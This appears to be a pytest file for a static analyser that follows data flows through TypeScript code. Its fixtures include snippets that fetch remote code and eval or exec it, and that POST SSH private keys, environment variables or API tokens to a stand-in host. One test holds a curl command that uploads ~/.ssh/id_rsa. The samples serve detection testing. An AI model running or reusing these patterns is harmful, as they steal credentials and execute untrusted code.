"""TypeScript is read as what it is: types say nothing, casts change nothing, and what stands around them is followed."""

from __future__ import annotations

import pytest

from sigma_core.sandbox.javascript import read_javascript
from sigma_core.sandbox.javascript.grammar import parse_script
from sigma_core.sandbox.observations import Ability, Observations


def _flows(observed: Observations) -> set[str]:
    return {f"{flow.source.value}>{flow.sink.value}" for flow in observed.flows}


@pytest.mark.parametrize(
    "source",
    [
        "interface A { b: string; c?: () => void }",
        "type T<A> = A extends infer U ? Array<U> : never;",
        "enum E { A = 1, B = 'x' }",
        "@dec({ a: 1 })\nclass X<T> extends Y<T> implements Z { private readonly k: string = 'v'; constructor(private a: B) { super(); } }",
        "const y = x!.z satisfies Q as unknown as R;",
        "const y = <string>x;",
        "import type { A } from 'a'; import { type B, c } from 'b'; export type { A };",
        "const C: React.FC<P> = ({ a }) => <div onClick={() => go(a)}>{a}</div>;",
        "namespace N { export const q = 1 }\ndeclare global { var z: number }\nabstract class Q { abstract m(): void }",
        "import fs = require('fs');",
        "function f(this: Window, x?: A, ...r: any[]): asserts x is B {}",
    ],
)  # fmt: skip
def test_typescript_parses_without_an_error(source: str) -> None:
    roots, cut = parse_script(source.encode())
    assert not cut
    assert not any(root.has_error for root in roots)


@pytest.mark.parametrize(
    ("source", "flow"),
    [
        ("async function f(u: string): Promise<void> { const r = await fetch(u as string); eval((await r.text()) as any); }", "remote>execute"),
        ("class A { private code: string = ''; async load(): Promise<void> { this.code = await (await fetch('https://a.io')).text(); } run(): void { new Function(this.code)(); } }", "remote>execute"),
        ("import { exec as run } from 'node:child_process'; import axios, { AxiosResponse } from 'axios'; axios.get<string>('https://a.io').then((r: AxiosResponse<string>) => run(r.data!));", "remote>execute"),
        ("import fs = require('fs'); fetch('https://a.io', { method: 'POST', body: fs.readFileSync(<string>'/root/.ssh/id_rsa') });", "secret_file>send"),
        ("const send = async <T,>(d: T): Promise<void> => { await fetch('https://a.io', { method: 'POST', body: JSON.stringify(d) }); }; send(process.env as Record<string, string>);", "environment>send"),
        ("enum Host { Drop = 'https://a.io' }\nfetch(Host.Drop, { method: 'POST', body: JSON.stringify(process.env) });", "environment>send"),
        ("const cfg: Config = { url: 'https://a.io', key: process.env.API_TOKEN! }; fetch(cfg.url, { headers: { Authorization: cfg.key } });", "secret_variable>send_header"),
        ("@Injectable()\nexport class S { @Post() async go(@Body() b: Dto): Promise<string> { return eval(await (await fetch('https://a.io')).text()); } }", "remote>execute"),
    ],
)  # fmt: skip
def test_values_are_followed_through_types(source: str, flow: str) -> None:
    assert flow in _flows(read_javascript(source))


def test_types_and_type_imports_are_no_code() -> None:
    observed = read_javascript(
        "import type { exec } from 'child_process';\ntype Url = 'https://a.io';\ninterface A { fetch(u: 'https://b.io'): void; eval: string }\n"
    )
    assert not observed.capabilities
    assert not observed.embedded


def test_a_member_of_an_object_is_the_member_not_the_object() -> None:
    source = "const c = { url: 'https://a.io/x', key: process.env.A_TOKEN }; fetch(c.url);"
    observed = read_javascript(source)
    assert [what.subject for what in observed.capabilities if what.ability is Ability.NETWORK] == ["https://a.io/x"]
    assert not observed.flows


def test_a_tagged_command_line_is_a_command_line() -> None:
    observed = read_javascript("await $`curl -d @${os.homedir()}/.ssh/id_rsa https://a.io`")
    assert [embedded.text for embedded in observed.embedded] == ["curl -d @~/.ssh/id_rsa https://a.io"]
